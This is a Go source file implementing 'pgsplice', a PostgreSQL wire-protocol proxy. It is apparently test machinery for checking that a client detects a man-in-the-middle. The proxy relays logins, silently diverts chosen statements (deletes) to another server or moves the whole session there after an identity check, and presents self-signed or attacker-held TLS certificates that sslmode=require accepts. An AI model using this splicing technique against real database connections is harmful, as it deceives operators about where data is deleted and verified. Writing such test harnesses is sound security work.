// Package pgsplice is an attacker's proxy for the tests: it sits between an
// operator and a PostgreSQL server and relays the login and every
// statement to that server, except that it can send chosen statements (the
// deletes) to a session of its own with another server (Divert), or move
// the whole session there once a chosen statement (the first identity
// proof) has been answered by the first server (SwitchAfter). What the
// operator sees is one normal session; what it deletes, and what answers
// its later proofs, is elsewhere.
//
// It speaks the wire protocol only as far as it must: message framing, the
// SSLRequest (answered with TLS of its own, a certificate nobody checks
// unless Options.Certificate says which, which is what sslmode=require
// accepts), the simple Query message and the extended protocol's Parse,
// Bind, Execute and Close, whose statement text it matches. It is test
// machinery, under internal/, and listens on loopback only.
package pgsplice

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/jackc/pgx/v5/pgconn"
)

const (
	sslRequest    = 80877103
	gssEncRequest = 80877104
)

// Options configure a Splicer. Primary, Other and one of Divert and
// SwitchAfter are required.
type Options struct {
	// Primary is the server host:port the login and everything not
	// diverted go to.
	Primary string
	// Other is the DSN of the server diverted statements go to; the
	// splicer logs in there itself (the attacker knows the credentials).
	Other string
	// Divert reports whether a simple Query's SQL goes to Other.
	Divert func(sql string) bool
	// SwitchAfter reports whether, once the Primary has answered a
	// statement with this SQL (a simple Query, or the Execute of a
	// prepared statement), the rest of the session goes to Other: every
	// later message, on a session of the splicer's own there, with the
	// client's prepared statements prepared there first. The client's
	// session stays open and seems the same.
	SwitchAfter func(sql string) bool
	// TLS makes the splicer accept SSLRequest with a certificate of its
	// own: self-signed, as a client with sslmode=require accepts, unless
	// Certificate says which.
	TLS bool
	// Certificate, with TLS, is the certificate the splicer presents (one
	// the attacker holds: a CA's certificate for another host, say).
	Certificate *tls.Certificate
}

// Splicer is a running proxy.
type Splicer struct {
	o        Options
	other    *pgconn.Config // Other, parsed
	l        net.Listener
	tls      *tls.Config
	diverted atomic.Int32
	switched atomic.Int32
	wg       sync.WaitGroup
}

// New starts a Splicer on a free loopback port.
func New(o Options) (*Splicer, error) {
	if o.Primary == "" || o.Other == "" || (o.Divert == nil && o.SwitchAfter == nil) {
		return nil, errors.New("pgsplice: Primary, Other and Divert or SwitchAfter are required")
	}
	other, err := pgconn.ParseConfig(o.Other)
	if err != nil {
		return nil, fmt.Errorf("pgsplice: Other: %w", err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("pgsplice: %w", err)
	}
	s := &Splicer{o: o, other: other, l: l}
	switch {
	case o.TLS && o.Certificate != nil:
		s.tls = &tls.Config{Certificates: []tls.Certificate{*o.Certificate}}
	case o.TLS:
		if s.tls, err = selfSigned(); err != nil {
			_ = l.Close()
			return nil, err
		}
	}
	s.wg.Add(1)
	go s.serve()
	return s, nil
}

// Addr is where the splicer listens.
func (s *Splicer) Addr() string { return s.l.Addr().String() }

// Diverted counts the statements sent to Other.
func (s *Splicer) Diverted() int { return int(s.diverted.Load()) }

// Switched counts the sessions moved to Other.
func (s *Splicer) Switched() int { return int(s.switched.Load()) }

// Close stops accepting; sessions in progress end with their peers.
func (s *Splicer) Close() error {
	err := s.l.Close()
	s.wg.Wait()
	return err
}

func (s *Splicer) serve() {
	defer s.wg.Done()
	for {
		c, err := s.l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			_ = s.session(c)
		}()
	}
}

// session is one client's session: what the client sent, what it was
// answered, and where its messages go now.
type session struct {
	s      *Splicer
	client net.Conn
	wmu    sync.Mutex // guards writes to client

	// Read and written by the client loop only.
	primary   net.Conn
	other     *pgconn.HijackedConn
	stmts     map[string]string // prepared statement name -> SQL
	portals   map[string]string // portal name -> SQL
	preparing [][]byte          // the Parse and Close messages sent, in order, to prepare them elsewhere
	moved     bool              // the session goes to other

	// armed is set by the client loop once the statement SwitchAfter
	// matched was sent; moveNow by the primary's relay once it has
	// relayed the answer's end (ReadyForQuery). The client sends its next
	// message only after that end, so the loop sees moveNow in time.
	armed, moveNow atomic.Bool
}

func (s *Splicer) session(client net.Conn) error {
	startup, err := readStartup(client)
	if err != nil {
		return err
	}
	for code := binary.BigEndian.Uint32(startup[4:8]); code == sslRequest || code == gssEncRequest; code = binary.BigEndian.Uint32(startup[4:8]) {
		if code == sslRequest && s.tls != nil {
			if _, err := client.Write([]byte{'S'}); err != nil {
				return err
			}
			tc := tls.Server(client, s.tls)
			if err := tc.Handshake(); err != nil {
				return err
			}
			client = tc
		} else if _, err := client.Write([]byte{'N'}); err != nil {
			return err
		}
		if startup, err = readStartup(client); err != nil {
			return err
		}
	}
	primary, err := net.DialTimeout("tcp", s.o.Primary, 5*time.Second)
	if err != nil {
		return err
	}
	defer primary.Close()
	if _, err := primary.Write(startup); err != nil {
		return err
	}
	ss := &session{s: s, client: client, primary: primary, stmts: map[string]string{}, portals: map[string]string{}}
	defer func() {
		if ss.other != nil {
			_ = ss.other.Conn.Close()
		}
	}()
	go ss.relay(func() ([]byte, error) { return readMessage(primary) }, true)
	return ss.loop()
}

// relay sends what a server says (each message read by next) to the
// client, message by message, so that a diverted reply never lands inside
// one of its. The primary's relay falls silent once the session has moved;
// until then its end is the client's.
func (ss *session) relay(next func() ([]byte, error), primary bool) {
	for {
		m, err := next()
		if err != nil {
			if primary && !ss.moveNow.Load() {
				_ = ss.client.Close()
			}
			return
		}
		if primary && ss.moveNow.Load() {
			continue // the session is elsewhere now
		}
		if primary && m[0] == 'Z' && ss.armed.Load() {
			ss.moveNow.Store(true)
		}
		ss.wmu.Lock()
		_, err = ss.client.Write(m)
		ss.wmu.Unlock()
		if err != nil {
			return
		}
	}
}

// loop reads the client's messages and sends each where it goes.
func (ss *session) loop() error {
	s := ss.s
	for {
		m, err := readMessage(ss.client)
		if err != nil {
			return err
		}
		if ss.moveNow.Load() && !ss.moved {
			if err := ss.move(); err != nil {
				return err
			}
		}
		if ss.moved {
			if _, err := ss.other.Conn.Write(m); err != nil {
				return err
			}
			continue
		}
		sql := ss.track(m)
		if m[0] == 'Q' && s.o.Divert != nil && s.o.Divert(sql) {
			if ss.other == nil {
				if ss.other, err = s.dialOther(); err != nil {
					return err
				}
			}
			s.diverted.Add(1)
			if err := ss.divert(m); err != nil {
				return err
			}
			continue
		}
		if (m[0] == 'Q' || m[0] == 'E') && s.o.SwitchAfter != nil && s.o.SwitchAfter(sql) {
			ss.armed.Store(true)
		}
		if _, err := ss.primary.Write(m); err != nil {
			return err
		}
	}
}

// track remembers prepared statements and portals, and returns the SQL a
// Query or an Execute runs ("" for other messages).
func (ss *session) track(m []byte) string {
	body := m[5:]
	switch m[0] {
	case 'Q':
		return strings.TrimRight(string(body), "\x00")
	case 'P': // Parse: name, query, parameter types
		name, rest := cstring(body)
		q, _ := cstring(rest)
		ss.stmts[name] = q
		ss.preparing = append(ss.preparing, bytes.Clone(m))
	case 'C': // Close: 'S' statement or 'P' portal, name
		if len(body) > 0 && body[0] == 'S' {
			ss.preparing = append(ss.preparing, bytes.Clone(m))
		}
	case 'B': // Bind: portal, statement, ...
		portal, rest := cstring(body)
		stmt, _ := cstring(rest)
		ss.portals[portal] = ss.stmts[stmt]
	case 'E': // Execute: portal, max rows
		portal, _ := cstring(body)
		return ss.portals[portal]
	}
	return ""
}

// move logs in to the other server and prepares there what the client
// prepared here; from then on the client's messages go there and its
// answers come from there.
func (ss *session) move() error {
	if ss.other == nil {
		var err error
		if ss.other, err = ss.s.dialOther(); err != nil {
			return err
		}
	}
	for _, p := range ss.preparing {
		// Each on its own, with a Sync: an error (a statement closed
		// twice, say) must not abort the rest.
		if err := ss.roundTrip(p); err != nil {
			return err
		}
	}
	ss.moved = true
	ss.s.switched.Add(1)
	go ss.relay(ss.readOther, false)
	return nil
}

// roundTrip sends m and a Sync to the other server and reads the answer
// up to ReadyForQuery, which it drops.
func (ss *session) roundTrip(m []byte) error {
	if _, err := ss.other.Conn.Write(append(bytes.Clone(m), 'S', 0, 0, 0, 4)); err != nil {
		return err
	}
	for {
		r, err := ss.readOther()
		if err != nil {
			return err
		}
		if r[0] == 'Z' {
			return nil
		}
	}
}

// divert sends a Query to the other server and relays its reply, up to
// and including ReadyForQuery, to the client.
func (ss *session) divert(q []byte) error {
	if _, err := ss.other.Conn.Write(q); err != nil {
		return err
	}
	for {
		m, err := ss.readOther()
		if err != nil {
			return err
		}
		ss.wmu.Lock()
		_, err = ss.client.Write(m)
		ss.wmu.Unlock()
		if err != nil {
			return err
		}
		if m[0] == 'Z' {
			return nil
		}
	}
}

// readOther reads the other server's next message through the Frontend
// pgconn logged in with, never from the socket itself: a read pgconn
// started in the background during the login (it does when a write of
// its seems slow, as under load) may still be pending on the socket, and
// what it reads is found only through the Frontend. Read from the socket,
// the first answer went there and the session hung.
func (ss *session) readOther() ([]byte, error) {
	m, err := ss.other.Frontend.Receive()
	if err != nil {
		return nil, err
	}
	return m.Encode(nil)
}

func (s *Splicer) dialOther() (*pgconn.HijackedConn, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	c, err := pgconn.ConnectConfig(ctx, s.other)
	if err != nil {
		return nil, fmt.Errorf("pgsplice: log in to the other server: %w", err)
	}
	return c.Hijack()
}

// cstring splits a NUL-terminated string off b.
func cstring(b []byte) (string, []byte) {
	i := bytes.IndexByte(b, 0)
	if i < 0 {
		return string(b), nil
	}
	return string(b[:i]), b[i+1:]
}

// readStartup reads a startup-phase packet: length, then body, no type.
func readStartup(r io.Reader) ([]byte, error) {
	var n [4]byte
	if _, err := io.ReadFull(r, n[:]); err != nil {
		return nil, err
	}
	size := binary.BigEndian.Uint32(n[:])
	if size < 8 || size > 1<<16 {
		return nil, fmt.Errorf("pgsplice: startup packet of %d bytes", size)
	}
	b := make([]byte, size)
	copy(b, n[:])
	_, err := io.ReadFull(r, b[4:])
	return b, err
}

// readMessage reads one typed message: type, length, body.
func readMessage(r io.Reader) ([]byte, error) {
	var h [5]byte
	if _, err := io.ReadFull(r, h[:]); err != nil {
		return nil, err
	}
	size := binary.BigEndian.Uint32(h[1:])
	if size < 4 || size > 1<<30 {
		return nil, fmt.Errorf("pgsplice: message %q of %d bytes", h[0], size)
	}
	b := make([]byte, 1+size)
	copy(b, h[:])
	_, err := io.ReadFull(r, b[5:])
	return b, err
}

func selfSigned() (*tls.Config, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("pgsplice: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "not-the-database"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, fmt.Errorf("pgsplice: %w", err)
	}
	return &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}, nil
}
